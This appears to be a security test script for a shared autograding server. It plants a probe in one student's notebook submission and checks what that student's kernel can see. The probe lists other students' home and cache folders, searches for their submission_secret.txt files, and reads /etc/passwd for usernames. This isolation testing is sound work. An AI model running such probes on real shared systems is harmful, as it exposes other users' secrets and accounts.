"""A10: with students' accounts on the machine, what of theirs does a kernel see? /home (other students' caches with
their submission secrets, a08), /tmp of the host, the exchange, and the host's passwd (which names them). mallory's
cell prints what it finds; controls aaron/zoe beside it."""
import os, sys
sys.path.insert(0, os.path.dirname(__file__))
from harness import *
payload = r'''
import os, glob
def _probe():
    out = []
    for p in ["/home", "/home/bob48", "/home/bob48/.local/share/jupyter/nbgrader_cache", "/tmp/attack48-user-ex3", "/srv", "/var/tmp", "/run/user"]:
        try:
            out.append(f"{p}: {sorted(os.listdir(p))[:5]}")
        except OSError as e:
            out.append(f"{p}: {e.strerror}")
    out.append("secrets: " + str(glob.glob("/home/*/.local/share/jupyter/nbgrader_cache/*/*/submission_secret.txt")[:3]))
    try:
        out.append("passwd students: " + str([l.split(':')[0] for l in open('/etc/passwd') if '48' in l]))
    except OSError as e:
        out.append("passwd " + e.strerror)
    print("A10PROBE " + " | ".join(out))
_probe()
'''
d, r, sc = run_class("a10", "ps1_memory", {"mallory": with_payload("ps1_memory", "training_memory", payload)})
o = outputs(d, "mallory", "ps1_memory")
print([l for l in o.splitlines() if "A10PROBE" in l][:1])
leaks(d)
